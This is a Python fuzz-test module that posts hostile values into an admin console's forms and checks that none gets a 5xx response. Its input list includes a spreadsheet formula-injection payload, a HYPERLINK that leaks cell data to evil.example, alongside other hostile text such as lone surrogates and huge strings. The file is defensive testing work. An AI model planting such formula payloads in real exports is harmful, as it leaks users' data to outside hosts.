"""No form makes the console answer 5xx: hypothesis posts every POST form of `/console`, signed
in as admin with a valid CSRF token, starting from a valid form (on the seeded Stormhaven
configuration, and a running case for the case commands) with some of its fields, or one leaf of
a JSON box, replaced by hostile text: the bytes of a lone surrogate, NUL, encoded words, 10^30
and -10^30, formula prefixes, very long strings and odd Unicode. Urlencoded and multipart bodies
alike, on SQLite and PostgreSQL (the second run of tests/api), with a fixed profile
(derandomized) so CI sees the same forms every time.
"""

import json
import uuid
from contextlib import AsyncExitStack
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from activities.settings import DestinationRules
from api.console.admin.hours import form_values
from api.deps import Services
from tests.helpers.actions import Names
from tests.helpers.api import ADMIN_KEY, CaseApi, client_for
from tests.helpers.console import Console, signed_in
from tests.helpers.factories import premium_body
from tests.helpers.hostile import HOSTILE_NUMBERS, HOSTILE_TEXT, has_surrogate, leaves, replaced
from tests.helpers.seeded import seed
from tests.helpers.stormhaven import OFFICE

EXAMPLES = 100
PROFILE = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
CONSOLE_TEXT = [
    *HOSTILE_TEXT,
    "=?utf-8?b?SGVsbG8=?=",
    "1" + "0" * 30,
    "-1" + "0" * 30,
    "1e308",
    "NaN",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "x" * 5_000,
    "y" * 300_000,
    "\u202e\u0644\u0627",
    "\ufeff",
    "\ufb03" * 60,  # folds to three letters each
    "I\u0307\u0130",
    "\U0001f600\u200d",
    "\u2028\r\n\t",
    "",
    " ",
    "24:00-24:00",
]
"""What a field may be replaced by: the API fuzz's hostile text, and what a form's text meets."""
HOSTILE_JSON: list[Any] = [
    *CONSOLE_TEXT,
    *HOSTILE_NUMBERS,
    json.loads("[" * 40 + "]" * 40),  # deeper than the API's 32 levels
    {"nested": None},
]
HOSTILE_IN_PATHS = [text for text in CONSOLE_TEXT if len(text) < 10_000 and not has_surrogate(text)]
"""A path is text in a URL (no lone surrogate survives it) of bounded length."""
hostile_text = st.one_of(st.sampled_from(CONSOLE_TEXT), st.text(max_size=50))


@st.composite
def hostile_json(draw: st.DrawFn, base: Any) -> str:
    """The JSON box's text: `base` with one leaf replaced by a hostile value (written as a JSON
    client would, a lone surrogate as its `\\ud800` escape), or hostile text outright."""
    if draw(st.booleans()):
        leaf = draw(st.sampled_from(leaves(base)))
        return json.dumps(replaced(base, leaf, draw(st.sampled_from(HOSTILE_JSON))))
    return draw(hostile_text)


@dataclass(frozen=True)
class Form:
    """A POST form of the console: where it goes (`{name}` filled from the seeded ids) and a
    valid form of it; the JSON boxes' values are the parsed JSON."""

    path: str
    valid: dict[str, Any]


def _definition() -> dict[str, Any]:
    body = premium_body()
    del body["name"]
    return body


HOURS = form_values(OFFICE)
TYPE = {
    "name": "Onboarding",
    "color": "#123456",
    "description": "new",
    "reporting_category": "Responsiveness",
    "recurrence": "none",
    "active": "on",
    "scope": "global",
    "account_id": "",
    "relationship_type": "",
}
ENTITLEMENT = {
    "name": "Gold",
    "account_id": "ACME",
    "process": "Premium",
    "business_hours": OFFICE.name,
    "starts_on": "2026-01-01",
    "ends_on": "2026-12-31",
    "cases_allowed": "5",
    "applies_when": {"all": [{"field": "product", "op": "eq", "value": "Cloud"}]},
    "priority": "5",
    "on_exhausted": "flag",
}
FORMS = [
    Form("/console/sign-in", {"key": ADMIN_KEY, "next": "/console/cases"}),
    Form("/console/sign-out", {}),
    Form("/console/admin/types", TYPE),
    Form("/console/admin/types/reorder", {"scope": "global", "ids": "{type_ids}"}),
    Form("/console/admin/types/{type_id}/active", {"active": "false", "scope": "global"}),
    Form("/console/admin/types/{type_id}", TYPE),
    Form("/console/admin/business-hours", {**HOURS, "name": "Other"}),
    Form("/console/admin/business-hours/{hours_id}", HOURS),
    Form("/console/admin/business-hours/{hours_id}/delete", {}),
    Form(
        "/console/admin/processes",
        {"action": "publish", "name": "Gold", "notes": "first", "definition": _definition()},
    ),
    Form(
        "/console/admin/processes/{process_id}/versions",
        {"action": "publish", "notes": "", "definition": _definition(), "based_on": "1"},
    ),
    Form("/console/admin/entitlements", ENTITLEMENT),
    Form("/console/admin/entitlements/{entitlement_id}", ENTITLEMENT),
]
CASE_FORMS = [
    Form("/console/cases/{case_id}/pause", {"reason": "call"}),
    Form("/console/cases/{case_id}/resume", {}),
    Form("/console/cases/{case_id}/milestones/{milestone}/complete", {}),
]


@st.composite
def posted(draw: st.DrawFn, form: Form, ids: dict[str, str]) -> tuple[str, dict[str, str]]:
    """A form's path (an id or a name now and then hostile) and its fields, some hostile."""
    fields = {
        name: json.dumps(value) if isinstance(value, dict) else value.format(**ids)
        for name, value in form.valid.items()
    }
    names = sorted({*form.valid, "action", "extra"})
    for name in draw(st.lists(st.sampled_from(names), max_size=3, unique=True)):
        valid = form.valid.get(name)
        fields[name] = draw(hostile_json(valid) if isinstance(valid, dict) else hostile_text)
    params = dict(ids)
    if draw(st.integers(0, 4)) == 0:
        for name in [n for n in ids if "{" + n + "}" in form.path]:
            params[name] = quote(draw(st.sampled_from(HOSTILE_IN_PATHS)), safe="")
    return form.path.format(**params), fields


def _body(fields: dict[str, str], multipart: bool) -> tuple[bytes, str]:
    """The form as a browser (or anyone) encodes it: UTF-8, a lone surrogate as the bytes it
    would be (`surrogatepass`), which are not UTF-8."""
    if not multipart:
        encoded = urlencode(fields, encoding="utf-8", errors="surrogatepass")
        return encoded.encode("ascii"), "application/x-www-form-urlencoded"
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        + value.encode("utf-8", "surrogatepass")
        + b"\r\n"
        for name, value in fields.items()
    ]
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


async def post(
    client: httpx.AsyncClient, path: str, fields: dict[str, str], multipart: bool
) -> httpx.Response:
    body, content_type = _body(fields, multipart)
    return await client.post(path, content=body, headers={"content-type": content_type})


async def browser_for(stack: AsyncExitStack, app: FastAPI, form: Form, admin: Console) -> Console:
    """The browser that posts `form`: the signed-in admin's, except for signing in (a new
    visitor's) and out (a session of its own, so the admin's stays signed in)."""
    if form.path == "/console/sign-in":
        visitor = Console(await stack.enter_async_context(client_for(app, None)))
        await visitor.open("/console/sign-in")
        return visitor
    if form.path == "/console/sign-out":
        own = await stack.enter_async_context(signed_in(app, ADMIN_KEY))
        await own.open("/console/cases")
        return own
    return admin


async def check_form(
    app: FastAPI, admin: Console, form: Form, ids: dict[str, str], data: st.DataObject
) -> None:
    path, fields = data.draw(posted(form, ids))
    async with AsyncExitStack() as stack:
        browser = await browser_for(stack, app, form, admin)
        body = {"csrf": browser.csrf, **fields}
        answer = await post(browser.client, path, body, multipart=data.draw(st.booleans()))
    shown = {name: value[:200] for name, value in fields.items()}
    assert answer.status_code < 500, f"{answer.status_code} on {path} {shown}: {answer.text[:2000]}"


@pytest.fixture
async def admin_console(console: Console) -> Console:
    """The signed-in admin's browser, holding the token of its session's forms."""
    await console.open("/console/admin/types")
    return console


@pytest.fixture
def ids(app: FastAPI) -> dict[str, str]:
    """The seeded configuration's ids. Its webhooks' host answers a public address at once (the
    system resolver would spend seconds on each publish failing to resolve it)."""
    services: Services = app.state.services
    services.destinations = DestinationRules(resolve=Names({"crm.example": [["93.184.215.14"]]}))
    seeded = seed(app)
    named = ("type_id", "hours_id", "process_id", "entitlement_id")
    return {
        **{name: str(seeded[name]) for name in named},
        "type_ids": ",".join(map(str, seeded["type_ids"])),
    }


@pytest.mark.parametrize("form", FORMS, ids=[f.path for f in FORMS])
@given(data=st.data())
@PROFILE
async def test_no_admin_form_answers_5xx(
    app: FastAPI, admin_console: Console, ids: dict[str, str], form: Form, data: st.DataObject
) -> None:
    await check_form(app, admin_console, form, ids, data)


@pytest.fixture
async def running_case(case_api: CaseApi, ids: dict[str, str]) -> dict[str, str]:
    """A case running on the seeded process, and a milestone of it."""
    case_id = f"F-{uuid.uuid4().hex[:8]}"
    body = {"case_id": case_id, "process": "Premium", "fields": {"priority": "High"}}
    started = await case_api.client.post("/cases", json=body)
    assert started.status_code == 201, started.text
    return {**ids, "case_id": case_id, "milestone": "First Response"}


@pytest.mark.parametrize("form", CASE_FORMS, ids=[f.path for f in CASE_FORMS])
@given(data=st.data())
@PROFILE
async def test_no_case_command_answers_5xx(
    app: FastAPI,
    admin_console: Console,
    running_case: dict[str, str],
    form: Form,
    data: st.DataObject,
) -> None:
    await check_form(app, admin_console, form, running_case, data)
